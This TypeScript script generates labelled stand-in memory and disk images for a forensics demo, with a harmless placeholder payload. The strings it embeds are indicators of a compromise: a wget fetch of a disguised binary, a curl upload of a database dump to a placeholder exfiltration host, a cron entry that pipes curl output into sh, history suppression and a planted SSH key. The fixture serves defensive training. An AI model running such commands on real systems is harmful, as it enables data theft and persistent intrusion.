// Writes the demo store's "memory snapshot" and "disk snapshot" files: small, deterministic stand-ins (not real images)
// with a header that says so, pseudo-random filler, and the strings a real image of the compromised VM would show.
// Run: npx tsx forensics/demo-artifacts/make-stand-ins.ts (the same bytes every time; tests pin their SHA-256).
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';

const ROOT = path.join(path.dirname(fileURLToPath(import.meta.url)), 'default');
const HEADER_SIZE = 512;

/** The "downloaded binary" on web-1: a harmless shell script whose SHA-256 the file-integrity log line records. */
export const DEMO_PAYLOAD = [
  '#!/bin/sh',
  '# SAFEGUARD DEMO PAYLOAD: a harmless stand-in for the binary downloaded to /tmp/.x/kworkerd.',
  '# A real sample would connect to 192.0.2.150:4444 and start a cryptocurrency miner.',
  'exit 0',
  '',
].join('\n');

interface StandIn {
  vm: string;
  kind: 'memory_snapshot' | 'disk_snapshot';
  file: string;
  size: number;
  seed: number;
  strings: string[];
}

const STAND_INS: StandIn[] = [
  {
    vm: 'vm-web-1 (web-1)', kind: 'memory_snapshot', file: 'vm-web-1/memory_snapshot/memory.bin', size: 48 * 1024, seed: 0x5eed0001,
    strings: [
      '/tmp/.x/kworkerd --daemon',
      'GET /k/kworkerd HTTP/1.1',
      'Host: dl.cdn-updates.example.net',
      'wget -q -O /tmp/.x/kworkerd http://dl.cdn-updates.example.net/k/kworkerd',
      'connect 192.0.2.150:4444',
      'HISTFILE=/dev/null',
      'SSH_CLIENT=198.51.100.201 50102 22',
    ],
  },
  {
    vm: 'vm-web-1 (web-1)', kind: 'disk_snapshot', file: 'vm-web-1/disk_snapshot/disk.img', size: 64 * 1024, seed: 0x5eed0002,
    strings: [
      '/var/spool/cron/crontabs/root: */5 * * * * /tmp/.x/kworkerd --daemon >/dev/null 2>&1',
      '/etc/passwd: sysadm:x:1002:1002::/home/sysadm:/bin/bash',
      '/home/sysadm/.ssh/authorized_keys: ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDemoKeyNotARealKeyDemoKeyNotARealKey0 op@staging',
      `/tmp/.x/kworkerd:\n${DEMO_PAYLOAD}`,
    ],
  },
  {
    vm: 'vm-db-1 (db-1)', kind: 'memory_snapshot', file: 'vm-db-1/memory_snapshot/memory.bin', size: 48 * 1024, seed: 0x5eed0003,
    strings: [
      'mysqldump --all-databases --single-transaction',
      'curl -s -T /tmp/d.sql.gz https://drop.exfil-store.example.org/u/7f3a',
      'curl -fsS http://192.0.2.150:8080/b',
      'SSH_CONNECTION=10.0.1.4 39812 10.0.1.5 22',
    ],
  },
  {
    vm: 'vm-db-1 (db-1)', kind: 'disk_snapshot', file: 'vm-db-1/disk_snapshot/disk.img', size: 64 * 1024, seed: 0x5eed0004,
    strings: [
      '/etc/cron.d/sysstat2: */10 * * * * root curl -fsS http://192.0.2.150:8080/b | sh',
      '/tmp/d.sql.gz',
      '/tmp/m.sh: #!/bin/sh (demo stand-in)',
    ],
  },
];

function header(s: StandIn): Uint8Array {
  const text = [
    'SAFEGUARD DEMO ARTIFACT',
    `kind: ${s.kind}`,
    `vm: ${s.vm}`,
    `This file is a demo stand-in, not a real ${s.kind === 'memory_snapshot' ? 'memory image' : 'disk image'}.`,
    'It holds pseudo-random filler and a few strings placed where a real image of the compromised machine would',
    'show them, so that collection, hashing and string scanning have something to work on.',
    'generated-by: forensics/demo-artifacts/make-stand-ins.ts',
    '',
  ].join('\n');
  const bytes = new Uint8Array(HEADER_SIZE);
  const encoded = new TextEncoder().encode(text);
  if (encoded.length > HEADER_SIZE) throw new Error(`header of ${s.file} is longer than ${HEADER_SIZE} bytes`);
  bytes.set(encoded);
  return bytes;
}

/** Filler with no run of four printable bytes, so the only strings a scanner finds are the ones placed on purpose. */
function filler(size: number, seed: number): Uint8Array {
  const out = new Uint8Array(size);
  let x = seed >>> 0;
  let run = 0;
  for (let i = 0; i < size; i++) {
    x ^= x << 13;
    x >>>= 0;
    x ^= x >>> 17;
    x ^= x << 5;
    x >>>= 0;
    let b = x & 0xff;
    const printable = b >= 0x20 && b <= 0x7e;
    if (printable && run >= 3) b |= 0x80;
    run = b >= 0x20 && b <= 0x7e ? run + 1 : 0;
    out[i] = b;
  }
  return out;
}

function build(s: StandIn): Uint8Array {
  const out = filler(s.size, s.seed);
  out.set(header(s));
  const encoder = new TextEncoder();
  // Strings spread evenly through the body, each fenced by NUL bytes as C strings are in memory.
  const step = Math.floor((s.size - HEADER_SIZE) / (s.strings.length + 1));
  s.strings.forEach((text, i) => {
    const bytes = encoder.encode(`\0${text}\0`);
    const at = HEADER_SIZE + step * (i + 1) - Math.floor(bytes.length / 2);
    out.set(bytes, at);
  });
  return out;
}

/** Every stand-in's path (under default/) and bytes. */
export function standIns(): { file: string; bytes: Uint8Array }[] {
  return STAND_INS.map((s) => ({ file: s.file, bytes: build(s) }));
}

if (process.argv[1] && path.resolve(process.argv[1]) === fileURLToPath(import.meta.url)) {
  for (const { file, bytes } of standIns()) {
    writeFileSync(path.join(ROOT, file), bytes);
    console.log(`wrote ${file} (${bytes.length} bytes)`);
  }
}
